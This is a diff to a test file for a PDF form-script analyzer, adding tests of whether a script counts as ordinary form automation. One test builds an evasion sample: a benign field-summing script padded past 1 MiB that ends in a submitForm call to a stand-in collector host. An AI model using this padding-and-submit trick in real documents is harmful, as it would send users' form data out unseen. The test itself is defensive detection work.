@@ -1,5 +1,7 @@
 import { describe, expect, it } from "vitest";
-import { urlAssignments } from "./form-automation";
+import { defaultBudget } from "../../limits";
+import { isFormAutomation, urlAssignments } from "./form-automation";
+import { scriptSignals } from "./script-signals";
 
 describe("urlAssignments", () => {
   it("finds the addresses a script assigns to names, with either quote and spaces or a line break around '='", () => {
@@ -18,5 +20,21 @@ describe("urlAssignments", () => {
   it("ignores addresses passed to calls, unquoted or compared, and text that only starts like one", () => {
     const source = 'app.launchURL("http://a.example/"); if (x == "http://b.example/") y(); z = http; w = "httpx://c"; v = "http:/d"';
     expect(urlAssignments(source).size).toBe(0);
+  });
+});
+
+describe("isFormAutomation", () => {
+  const formScript = 'var total = this.getField("a").value + this.getField("b").value;\nthis.getField("sum").value = util.printf("%.2f", total);\n';
+  const explained = (source: string) => isFormAutomation(source, scriptSignals(source, defaultBudget()));
+
+  it("explains a script that formats and sums fields", () => {
+    expect(explained(formScript)).toBe(true);
+  });
+
+  it("does not explain a form script whose outward call is padded past what it reads (1 MiB)", () => {
+    const padding = formScript.repeat(Math.ceil((1024 * 1024) / formScript.length));
+    expect(explained(`${padding}this.submitForm("http://collector.example/a");`)).toBe(false);
+    // the same padding without the call is not explained either: an explanation needs the whole script read
+    expect(explained(padding)).toBe(false);
   });
 });
